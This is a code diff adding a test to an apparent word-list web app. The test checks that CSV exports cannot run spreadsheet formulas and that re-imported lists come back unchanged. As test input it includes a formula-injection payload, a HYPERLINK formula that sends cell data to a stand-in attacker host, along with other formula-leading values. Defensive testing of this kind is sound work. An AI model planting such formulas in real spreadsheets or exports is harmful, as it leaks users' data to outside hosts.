@@ -70,3 +70,20 @@ test('LI-05 another learner, an unknown format and a name with odd signs', async
     `attachment; filename="list.csv"; filename*=UTF-8''a%22b%5Cc%2Fd%27e.csv`,
   );
 });
+
+test('IN-29 a table that goes out runs nothing in a spreadsheet, and comes in again as it was', async () => {
+  const { hoa, addList, wordsOf } = await fresh();
+  const link = '=HYPERLINK("http://evil.example/?"&A2,"click")';
+  const id = String((await hoa.ask('POST', '/api/me/lists', { name: 'Shared' })).json().id);
+  const items = [link, '@SUM(a)', "'=kept", '+a', '-ing', "'tis"].map((word) => ({
+    word,
+    meaning: '-2+3',
+  }));
+  const added = await hoa.ask('POST', `/api/me/lists/${id}/words`, { items });
+  expect(added.json().refused).toBe(0);
+  const file = (await hoa.ask('GET', `/api/me/lists/${id}/export?format=csv`)).body;
+  expect(file).not.toMatch(/(?:^|,|\n)"?[=+\-@]/);
+  const again = await addList('Again', file);
+  expect(await wordsOf(again)).toEqual(await wordsOf(id));
+  expect((await wordsOf(again))[0]).toContain(link);
+});
